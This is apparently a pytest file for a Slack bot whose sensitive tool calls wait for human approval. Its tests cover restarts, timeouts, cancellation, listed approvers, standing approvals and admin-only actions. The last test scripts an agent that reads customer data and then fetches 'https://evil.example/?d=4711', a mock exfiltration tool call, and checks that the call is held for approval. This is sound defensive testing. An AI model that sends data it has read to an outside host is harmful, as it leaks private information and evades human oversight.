"""A run that waits for a person: no worker, no ticket, through restarts, and always an end (D6)."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from redis.asyncio import Redis

from bot.core.approvals import Approval, CallProgress, Decision, Verdict
from bot.core.outcome import Outcome, RunStatus
from bot.core.request import Entry, Request
from bot.dev.model import Reply, Script, calls, finish
from bot.runs.policy.access import Policy
from bot.runs.policy.run_approvals import AwaitingApproval
from bot.runs.queue.engine import Engine, EngineOptions, open_engine
from bot.runs.queue.requests import Requests
from bot.settings import ChannelTable, ModelSettings
from bot.store import Refusal, Stores
from bot.toolkit import Changes, tool
from tests.support.redis import asked, decided
from tests.support.runs import Bot, answer, bot_with
from tools.web import fetch_page

SOON = 10  # seconds a test waits for a state before it fails
LAUNCHED: list[str] = []


@tool(
    group="g", summary="Launches", core=True, safety=Changes(sensitive=True), title="Launch {what}"
)
async def launch(what: str) -> str:
    """Launches."""
    LAUNCHED.append(what)
    return f"launched {what}"


@tool(
    group="g",
    summary="Sends",
    core=True,
    safety=Changes(sensitive=True, standing=("to",)),
    title="-",
)
async def send(to: str, text: str) -> str:
    """Sends."""
    LAUNCHED.append(f"{to}: {text}")
    return "sent"


@tool(group="g", summary="Notes", core=True, safety=Changes())
async def note(text: str) -> str:
    """Notes."""
    LAUNCHED.append(text)
    return "noted"


@tool(
    group="g",
    summary="Resets",
    core=True,
    safety=Changes(for_everybody=lambda call: call.what == "all"),
)
async def reset(what: str) -> str:
    """Resets."""
    LAUNCHED.append(what)
    return "reset"


@tool(
    group="g",
    summary="Breaks",
    core=True,
    safety=Changes(sensitive=True, free_in_direct=lambda call: call.missing),
)
async def breaks(what: str) -> str:
    """Breaks."""
    LAUNCHED.append(what)
    return "broken"


@tool(
    group="g", summary="Fails", core=True, safety=Changes(for_everybody=lambda call: call.missing)
)
async def fails(what: str) -> str:
    """Fails."""
    LAUNCHED.append(what)
    return "failed"


@pytest.fixture(autouse=True)
def nothing_launched() -> None:
    LAUNCHED.clear()


def script(*pairs: tuple[str, dict[str, Any]]) -> Script:
    """The calls in one response each, then the answer; as often as is asked."""
    turns: list[Reply] = [calls(pair) for pair in pairs]
    return Script([*turns, finish(answer()), *[finish(answer("Next."))] * 3])


LAUNCH = ("launch", {"what": "A"})
YES, NO = Verdict.APPROVED, Verdict.DENIED


@dataclass
class Place:
    """The engine with a bot at work on it."""

    bot: Bot
    engine: Engine
    requests: Requests
    done: asyncio.Queue[Outcome]

    async def ask(self, text: str = "Launch!", **details: Any) -> Request:
        request = asked(text).model_copy(update=details)
        assert await self.requests.submit(request, request.id)
        return request

    async def question(self) -> Approval:
        """The next question to people, once its thread rests."""
        async with asyncio.timeout(SOON):
            while not (self.bot.board.asked and await self.parked()):  # noqa: ASYNC110
                await asyncio.sleep(0.01)
        return self.bot.board.asked[-1]

    async def parked(self) -> bool:
        return await self.bot.stores.mailbox.is_parked("T1:C1:1.0")

    async def decide(self, question: Approval, verdict: Verdict, by: str = "U1") -> Refusal | None:
        said = Decision(verdict=verdict, by=by, name="Ada")
        return await self.requests.decide(question, said, sha256=question.sha256)

    async def outcome(self) -> Outcome:
        async with asyncio.timeout(SOON):
            return await self.done.get()


@asynccontextmanager
async def working(
    stores: Stores,
    url: str,
    brain: Callable[..., Any],
    sweep: float = 60.0,
    *,
    core: bool = True,
    **settings: Any,
) -> AsyncGenerator[Place]:
    tools = [replace(each.tool, core=core) for each in (launch, send, note)]
    async with (
        bot_with(stores, brain, *tools, **settings) as bot,
        open_engine(url, stores.mailbox, EngineOptions(lease=2.0, sweep=sweep)) as engine,
    ):
        done: asyncio.Queue[Outcome] = asyncio.Queue()

        async def handle(request: Request, deaths: int) -> None:
            done.put_nowait(await bot.runner.answer(request, deaths))

        async with engine.work(handle):
            yield Place(bot, engine, Requests(stores, engine), done)


async def test_approved_it_goes_on_with_the_result(stores: Stores, redis_url: str) -> None:
    """D6: the yes brings the ticket; one run, two calls of the model, one change."""
    async with working(stores, redis_url, script(LAUNCH)) as place:
        await place.ask()
        question = await place.question()
        assert (question.title, question.arguments) == ("Launch A", '{"what": "A"}')
        assert question.approvers == ("U1",)
        assert LAUNCHED == []
        assert await place.decide(question, YES) is None
        outcome = await place.outcome()
        assert outcome.status is RunStatus.SUCCESS
        assert LAUNCHED == ["A"]
        assert place.bot.outputs() == ["launched A"]
        settled = place.bot.board.settled[0]
        assert settled.decision is not None
        assert settled.decision.by == "U1"


@pytest.mark.parametrize("stateless", [False, True])
@pytest.mark.parametrize("verdict", [YES, NO])
async def test_a_listed_tool_and_the_result_in_one_response(
    stores: Stores, redis_url: str, verdict: Verdict, stateless: bool
) -> None:
    """C1 D1 K6: a tool that was not acquired waits for its approval like any other; the result beside
    it counts once the change was made, and else is answered "not yet"."""
    reply = calls(LAUNCH, ("complete_task", answer("Launched.")))
    brain = Script([reply, finish(answer("Not launched."))])
    model = ModelSettings(stateless=stateless)
    async with working(stores, redis_url, brain, core=False, model=model) as place:
        await place.ask()
        await place.decide(await place.question(), verdict)
        outcome = await place.outcome()
        kept = await stores.caller_states.load("T1:C1:1.0")
        requests = len(place.bot.api.requests)
        outputs = place.bot.outputs() if verdict is NO else []
    assert outcome.result
    if verdict is YES:
        assert (outcome.result["summary"], requests, LAUNCHED) == ("Launched.", 1, ["A"])
    else:
        assert (outcome.result["summary"], requests, LAUNCHED) == ("Not launched.", 2, [])
        assert [each.split(":")[0] for each in outputs] == ["Not done", "Not yet"]
    assert kept.acquired == ("launch",)


async def test_what_people_took_to_decide_is_not_what_the_answer_took(
    stores: Stores, redis_url: str
) -> None:
    """The footer says how long it was worked on, as if they had decided at once."""
    async with working(stores, redis_url, script(LAUNCH)) as place:
        await place.ask(received_at=datetime.now(UTC) - timedelta(hours=1))
        question = await place.question()
        an_hour = Decision(verdict=YES, by="U1", name="Ada", at=question.asked_at + 3_600)
        await place.requests.decide(question, an_hour, sha256=question.sha256)
        assert (await place.outcome()).totals.seconds < 3_600


async def test_denied_the_model_is_told_by_whom(stores: Stores, redis_url: str) -> None:
    async with working(stores, redis_url, script(LAUNCH)) as place:
        await place.ask()
        await place.decide(await place.question(), NO)
        assert (await place.outcome()).status is RunStatus.SUCCESS
        assert LAUNCHED == []
        [output] = place.bot.outputs()
        assert output.startswith("Not done: Ada denied it.")


async def test_the_wait_costs_no_worker_and_no_ticket(
    stores: Stores, redis_url: str, redis: Redis
) -> None:
    """(reliability) While people think nothing runs: the sweep leaves the thread alone, its slot is
    free, its attempt is not counted, and other threads are served."""
    async with working(stores, redis_url, script(LAUNCH), sweep=0.05) as place:
        await place.ask()
        await place.question()
        await place.ask("Elsewhere?", thread="2.0")
        await place.outcome()
        leases = await redis.keys("bot:v1:lease:T1:C1:1.0")
        before = await redis.get(leases[0])
        for _ in range(3):  # sweeps
            async with asyncio.timeout(SOON):
                await place.engine._sweep()
        assert await redis.get(leases[0]) == before  # nobody took the thread again
        assert [key async for key in redis.scan_iter("bot:engine:concurrency:thread_key:*")] == []
        assert [key async for key in redis.scan_iter("bot:v1:begun:*")] == []


async def test_a_crash_between_the_yes_and_its_ticket(stores: Stores, redis_url: str) -> None:
    """Window 13: whoever pressed got no reply and no ticket was sent; the sweep finds the thread."""
    async with working(stores, redis_url, script(LAUNCH), sweep=0.2) as place:
        await place.ask()
        question = await place.question()
        said = Decision(verdict=YES, by="U1")
        assert not await decided(stores, question, said)
        assert (await place.outcome()).status is RunStatus.SUCCESS
        assert LAUNCHED == ["A"]


async def test_the_wait_survives_a_restart(stores: Stores, redis_url: str) -> None:
    """D6: asked by one process, decided while none is there, done by the next."""
    brain = script(LAUNCH)
    async with working(stores, redis_url, brain, sweep=0.2) as place:
        await place.ask()
        question = await place.question()
    said = Decision(verdict=YES, by="U1")
    assert not await decided(stores, question, said)
    async with working(stores, redis_url, brain, sweep=0.2) as place:
        assert (await place.outcome()).status is RunStatus.SUCCESS
    assert LAUNCHED == ["A"]


async def test_nobody_decides_in_time(stores: Stores, redis_url: str) -> None:
    """D6: it ends by itself, having done nothing."""
    access = Policy(approval_hours=1 / 3_600)
    async with working(stores, redis_url, script(LAUNCH), sweep=0.2, access=access) as place:
        await place.ask()
        assert (await place.outcome()).status is RunStatus.SUCCESS
        assert place.bot.outputs()[0].startswith("Not done: nobody approved it in time.")
        assert LAUNCHED == []


@pytest.mark.parametrize("during_run", ["steer", "queue"])
async def test_the_person_writes_instead(stores: Stores, redis_url: str, during_run: Any) -> None:
    """D6: the question is answered for them; their message is taken into the run, or comes next."""
    started = int(time.time())
    here = {"C1": ChannelTable(during_run=during_run)}
    async with working(stores, redis_url, script(LAUNCH), channels=here) as place:
        await place.ask()
        question = await place.question()
        await place.ask("No, tell me the time")
        for _ in range(1 if during_run == "steer" else 2):
            assert (await place.outcome()).status is RunStatus.SUCCESS
        assert place.bot.outputs(1)[0].startswith("Not done: a new message came")
        assert place.bot.said()[-1].endswith("No, tell me the time")
        assert await place.decide(question, YES) is Refusal.DECIDED
        asked = await place.bot.stores.approvals.get(question.id)
        assert asked
        assert asked.decision
        assert asked.decision.at >= started  # when it was written, not when the program began
        assert LAUNCHED == []


async def test_others_may_talk_meanwhile(stores: Stores, redis_url: str) -> None:
    """What somebody else asks decides nothing, nor what who asked has asked in a form, for them alone,
    or by a schedule; it is answered when its turn comes."""
    async with working(stores, redis_url, script(LAUNCH)) as place:
        await place.ask()
        question = await place.question()
        await place.ask("And me?", user="U2")
        await place.ask("Between us?", entry=Entry.MESSAGE_SHORTCUT, private=True)
        await place.ask("It is nine.", entry=Entry.SCHEDULE, schedule="sch_1")
        await place.question()
        assert place.done.empty()
        assert await place.decide(question, YES) is None
        assert [(await place.outcome()).status for _ in range(4)] == [RunStatus.SUCCESS] * 4


async def test_approved_and_stopped_at_once(stores: Stores, redis_url: str) -> None:
    """H1, D6: nothing is done, and that is what stands on the card in the end; of what was done it
    says so too."""
    async with working(stores, redis_url, script(LAUNCH, LAUNCH)) as place:
        request = await place.ask()
        await place.decide(await place.question(), YES)
        async with asyncio.timeout(SOON):
            while len(place.bot.board.asked) < 2:  # noqa: ASYNC110
                await asyncio.sleep(0.01)
        assert not await decided(stores, await place.question(), Decision(verdict=YES, by="U1"))
        assert await place.requests.cancel(request.thread_key, "U1")
        assert (await place.outcome()).status is RunStatus.CANCELLED
    assert LAUNCHED == ["A"]
    shown = {each.approval.id: each.made for each in place.bot.board.settled}
    assert list(shown.values()) == [CallProgress.DONE, CallProgress.NEVER]


def by_stop(place: Place, request: Request) -> Awaitable[bool]:
    return place.requests.cancel(request.thread_key, "U1")


def by_deletion(place: Place, request: Request) -> Awaitable[bool]:
    return place.requests.withdraw(request.thread_key, request.ts, "U1")


@pytest.mark.parametrize("way", [by_stop, by_deletion])
async def test_stop_while_it_waits(stores: Stores, redis_url: str, way: Any) -> None:
    """H1: it ends at once; a deleted question leaves nothing behind; a late yes does nothing."""
    async with working(stores, redis_url, script(LAUNCH)) as place:
        request = await place.ask()
        question = await place.question()
        assert await way(place, request)
        outcome = await place.outcome()
        assert outcome.status is RunStatus.CANCELLED
        assert (outcome.silent is not None) == (way is by_deletion)
        assert outcome.called_off == (question.title,)
        assert await place.decide(question, YES) is Refusal.DECIDED
        settled = place.bot.board.settled[0]
        assert settled.decision is not None
        assert settled.decision.verdict is Verdict.WITHDRAWN
        await place.ask("What now?")
        assert (await place.outcome()).status is RunStatus.SUCCESS
        assert place.bot.outputs(1) == ["Cancelled by the user before it finished."]
        assert LAUNCHED == []


async def test_a_standing_approval_covers_the_like_of_it(stores: Stores, redis_url: str) -> None:
    """Same tool, same fixed arguments: not asked again. Another value of these: asked."""
    texts = [
        ("send", {"to": to, "text": text}) for to, text in (("#a", "1"), ("#a", "2"), ("#b", "3"))
    ]
    async with working(stores, redis_url, script(*texts)) as place:
        await place.ask()
        await place.decide(await place.question(), Verdict.STANDING)
        async with asyncio.timeout(SOON):
            while len(place.bot.board.asked) < 2:  # noqa: ASYNC110
                await asyncio.sleep(0.01)
        assert LAUNCHED == ["#a: 1", "#a: 2"]
        await place.decide(await place.question(), NO)
        await place.outcome()
        assert LAUNCHED == ["#a: 1", "#a: 2"]


MODES = {
    "never": [],
    "sensitive": ["launch"],
    "always": ["note", "launch"],
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("channel", [False, True])
async def test_the_mode_says_what_is_asked_about(stores: Stores, mode: Any, channel: bool) -> None:
    """D6: for the deployment, and for one channel."""
    access = Policy() if channel else Policy(confirm=mode)
    here = {"C1": ChannelTable(confirm=mode if channel else None)}
    pairs = (("note", {"text": "B"}), LAUNCH)
    async with bot_with(
        stores, script(*pairs), launch.tool, note.tool, access=access, channels=here
    ) as bot:
        bot.board.decide = lambda _: Decision(verdict=YES, by="U1")
        outcome = await bot.ask("Go")
        assert [each.tool for each in bot.board.asked] == MODES[mode]
        assert outcome.changed  # asked about or not: to answer anew would launch it again
    assert LAUNCHED == ["B", "A"]


async def test_listed_approvers_decide_and_nobody_else(stores: Stores, redis_url: str) -> None:
    """Not even whoever asked."""
    access = Policy(approvers=("U7", "U8"))
    async with working(stores, redis_url, script(LAUNCH), access=access) as place:
        await place.ask()
        question = await place.question()
        assert question.approvers == ("U7", "U8")
        assert await place.decide(question, YES, by="U1") is Refusal.FORBIDDEN
        assert await place.decide(question, YES, by="U8") is None
        await place.outcome()
        assert LAUNCHED == ["A"]


async def test_policy_is_asked_again_when_it_is_done(stores: Stores) -> None:
    """(reliability 10) Who approved may not approve any more when the call is made."""
    async with bot_with(stores, script(LAUNCH), launch.tool) as bot:
        with pytest.raises(AwaitingApproval):
            await bot.ask(request := asked())
        [question] = bot.board.asked
        said = Decision(verdict=YES, by="U1", name="Ada")
        assert not await decided(stores, question, said)
        changed = bot.runner.with_deps(policy=Policy(approvers=("U9",)))
        await changed.answer(request)
        assert "may not approve it any more" in bot.outputs()[0]
    assert LAUNCHED == []


async def test_where_nobody_may_approve_it_is_refused_at_once(stores: Stores) -> None:
    """A guest's own yes is none, nor is a workflow's: nothing waits for it."""

    async def nobody(_user: str) -> bool:
        return False

    async with bot_with(stores, script(LAUNCH), launch.tool) as bot:
        bot.change_frontend(may_decide=nobody)
        assert (await bot.ask("Go")).status is RunStatus.SUCCESS
        assert "somebody who cannot give it" in bot.outputs()[0]
        assert bot.board.asked == []


async def test_at_a_terminal_whoever_sits_there_decides(stores: Stores) -> None:
    """Listed approvers are people of Slack."""
    async with bot_with(
        stores, script(LAUNCH), launch.tool, access=Policy(approvers=("U9",))
    ) as bot:
        bot.board.decide = lambda each: Decision(verdict=YES, by=each.requester)
        await bot.ask("Go", entry=Entry.HEADLESS)
    assert LAUNCHED == ["A"]


async def test_what_nobody_can_check_is_refused(stores: Stores) -> None:
    """More than a person reads is no informed yes."""
    huge = ("launch", {"what": "x" * 60_000})
    async with bot_with(stores, script(huge), launch.tool) as bot:
        await bot.ask("Go")
        assert "smaller pieces" in bot.outputs()[0]
        assert bot.board.asked == []


async def test_a_question_that_cannot_be_put_is_refused(
    stores: Stores, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Slack takes no message: tried again, then the model is told; the run does not hang."""
    monkeypatch.setattr("bot.runs.policy.run_approvals._PAUSES", (0.0,))
    tries: list[Approval] = []

    def broken(approval: Approval) -> Decision:
        tries.append(approval)
        raise ConnectionError("Slack is not there")

    async with bot_with(stores, script(LAUNCH), launch.tool) as bot:
        bot.board.decide = broken
        assert (await bot.ask("Go")).status is RunStatus.SUCCESS
        assert bot.outputs()[0].startswith("Not done: nobody could be asked")
    assert len(tries) == 2
    assert LAUNCHED == []


async def test_killed_after_the_yes_before_the_change(stores: Stores) -> None:
    """Window 13: claimed by a worker that died; the next one makes the call, once."""
    async with bot_with(stores, script(LAUNCH), launch.tool) as bot:
        with pytest.raises(AwaitingApproval):
            await bot.ask(request := asked())
        [question] = bot.board.asked
        said = Decision(verdict=YES, by="U1")
        await decided(stores, question, said)
        assert await stores.approvals.claim(question) == said  # and here the worker dies
        await bot.runner.answer(request)
        await bot.runner.answer(request)
    assert LAUNCHED == ["A"]


async def nobody(_user: str) -> bool:
    return False


@pytest.mark.parametrize("open_memories", [False, True])
async def test_only_admins_make_calls_for_everybody(stores: Stores, open_memories: bool) -> None:
    """S4: also where every member may save memories for the workspace, which is another matter."""
    turns = script(("reset", {"what": "one"}), ("reset", {"what": "all"}))
    access = Policy(open_memories=open_memories)
    async with bot_with(stores, turns, reset.tool, access=access) as bot:
        bot.change_frontend(may_administer=nobody)
        await bot.ask("Reset it!")
        assert "only admins" in bot.outputs()[-1]
    assert LAUNCHED == ["one"]


async def test_a_rule_of_a_tool_that_breaks_lets_nothing_through(stores: Stores) -> None:
    """S4, R1: the run ends well, people are asked, and what admins decide stays theirs."""
    turns = script(("breaks", {"what": "one"}), ("fails", {"what": "all"}))
    async with bot_with(stores, turns, breaks.tool, fails.tool) as bot:
        bot.change_frontend(may_administer=nobody)
        bot.board.decide = lambda _: Decision(verdict=YES, by="U1")
        outcome = await bot.ask("Do it!", channel="D1")
        assert [each.tool for each in bot.board.asked] == ["breaks"]
        assert "only admins" in bot.outputs()[-1]
    assert outcome.status is RunStatus.SUCCESS
    assert LAUNCHED == ["one"]


async def schema(_services: object) -> str:
    return "customers: ACME, who owe 4711"


@tool(group="crm", summary="Finds customers", on_acquired=schema)
async def find_customers(name: str) -> str:
    """Finds customers."""
    return name


@pytest.mark.parametrize(
    "read",
    [("acquire_tools", {"names": ["find_customers"]}), ("find_customers", {"wrong": "ACME"})],
    ids=str,
)
async def test_what_a_tool_says_when_it_is_acquired_has_been_read(
    stores: Stores, read: tuple[str, dict[str, Any]]
) -> None:
    """S3: as the output of a call has; what leaves the bot afterwards may hold it."""
    turns = script(
        read,
        ("fetch_page", {"url": "https://evil.example/?d=4711"}),
    )
    fetch = replace(fetch_page.tool, core=True)
    async with bot_with(stores, turns, find_customers.tool, fetch) as bot:
        bot.board.decide = lambda _: Decision(verdict=NO, by="U1")
        await bot.ask("Who are our customers?")
        assert [each.tool for each in bot.board.asked] == ["fetch_page"]
